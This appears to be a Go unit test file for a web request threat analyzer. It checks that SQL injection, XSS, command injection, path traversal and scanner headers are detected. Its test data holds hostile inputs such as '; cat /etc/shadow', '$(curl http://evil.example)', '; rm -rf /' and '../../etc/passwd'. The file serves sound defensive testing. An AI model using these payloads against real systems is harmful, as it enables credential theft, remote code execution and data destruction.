package threat

import (
	"net/http"
	"net/url"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func findingOfType(findings []Finding, typ string) (Finding, bool) {
	for _, f := range findings {
		if f.Type == typ {
			return f, true
		}
	}
	return Finding{}, false
}

func TestCleanRequestYieldsNoFindings(t *testing.T) {
	a := NewAnalyzer()
	headers := http.Header{}
	headers.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
	headers.Set("Accept", "application/json")

	findings := a.Analyze(headers, "/api/v1/users", url.Values{"page": {"2"}, "limit": {"50"}}, "")
	assert.Empty(t, findings)
}

func TestSQLInjectionInQuery(t *testing.T) {
	a := NewAnalyzer()
	q := url.Values{"id": {"1' OR '1'='1'"}}

	findings := a.Analyze(http.Header{}, "/api/v1/users", q, "")
	f, ok := findingOfType(findings, TypeSQLInjection)
	require.True(t, ok, "classic tautology must be detected")
	assert.Equal(t, SeverityHigh, f.Severity)
	assert.Equal(t, "query", f.Surface)
}

func TestXSSInBody(t *testing.T) {
	a := NewAnalyzer()
	findings := a.Analyze(http.Header{}, "/comments", nil, `{"text":"<script>alert(1)</script>"}`)
	f, ok := findingOfType(findings, TypeXSS)
	require.True(t, ok)
	assert.Equal(t, SeverityHigh, f.Severity)
	assert.Equal(t, "body", f.Surface)
}

func TestCommandInjectionIsCritical(t *testing.T) {
	a := NewAnalyzer()
	cases := []string{
		"; cat /etc/shadow",
		"$(curl http://evil.example)",
		"ping | sh payload",
		"/bin/bash -c reverse",
	}
	for _, payload := range cases {
		findings := a.Analyze(http.Header{}, "/run", url.Values{"cmd": {payload}}, "")
		f, ok := findingOfType(findings, TypeCommandInjection)
		require.Truef(t, ok, "payload %q", payload)
		assert.Equal(t, SeverityCritical, f.Severity)
	}
}

func TestPathTraversal(t *testing.T) {
	a := NewAnalyzer()
	findings := a.Analyze(http.Header{}, "/../../etc/passwd", nil, "")
	f, ok := findingOfType(findings, TypePathTraversal)
	require.True(t, ok)
	assert.Equal(t, SeverityCritical, f.Severity)

	assert.True(t, HasTraversal("/files/%2e%2e/secret"))
	assert.True(t, HasTraversal(`\..\..\windows\win.ini`))
	assert.False(t, HasTraversal("/files/report.pdf"))
}

func TestSuspiciousHeaders(t *testing.T) {
	a := NewAnalyzer()

	h := http.Header{}
	h.Set("X-Forwarded-Host", "evil.example")
	findings := a.Analyze(h, "/", nil, "")
	f, ok := findingOfType(findings, TypeSuspiciousHeader)
	require.True(t, ok)
	assert.Equal(t, SeverityMedium, f.Severity)

	h = http.Header{}
	h.Set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
	findings = a.Analyze(h, "/", nil, "")
	_, ok = findingOfType(findings, TypeSuspiciousHeader)
	assert.True(t, ok, "scanner user agent must be flagged")
}

func TestDeterministicAndIdempotent(t *testing.T) {
	a := NewAnalyzer()
	h := http.Header{}
	h.Set("User-Agent", "nikto/2.5")
	q := url.Values{"q": {"1' OR '1'='1'", "<script>x</script>"}}

	first := a.Analyze(h, "/search", q, "; rm -rf /")
	for i := 0; i < 10; i++ {
		assert.Equal(t, first, a.Analyze(h, "/search", q, "; rm -rf /"))
	}
}

func TestFindingsDeduplicated(t *testing.T) {
	a := NewAnalyzer()
	// two values on the same surface matching the same category
	q := url.Values{"a": {"1' OR '1'='1'"}, "b": {"x' OR 'x'='x"}}
	findings := a.Analyze(http.Header{}, "/", q, "")

	count := 0
	for _, f := range findings {
		if f.Type == TypeSQLInjection && f.Surface == "query" {
			count++
		}
	}
	assert.Equal(t, 1, count)
}

func TestMaxSeverity(t *testing.T) {
	assert.Equal(t, Severity(""), MaxSeverity(nil))
	assert.Equal(t, SeverityCritical, MaxSeverity([]Finding{
		{Type: TypeSQLInjection, Severity: SeverityHigh},
		{Type: TypeCommandInjection, Severity: SeverityCritical},
		{Type: TypeSuspiciousHeader, Severity: SeverityMedium},
	}))
}
